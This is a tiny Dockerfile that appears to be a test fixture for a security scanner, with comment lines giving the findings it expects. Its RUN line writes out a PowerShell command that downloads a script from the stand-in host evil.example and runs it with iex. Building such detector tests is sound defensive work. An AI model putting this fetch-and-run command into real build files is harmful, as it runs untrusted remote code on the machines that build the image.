FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN powershell -Command "iex (New-Object Net.WebClient).DownloadString('https://evil.example/i')"
USER app
# expect: download 2 high "powershell inline code fetches https://evil.example/i"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-19dc4f43b8 VR501-e064bac1a6
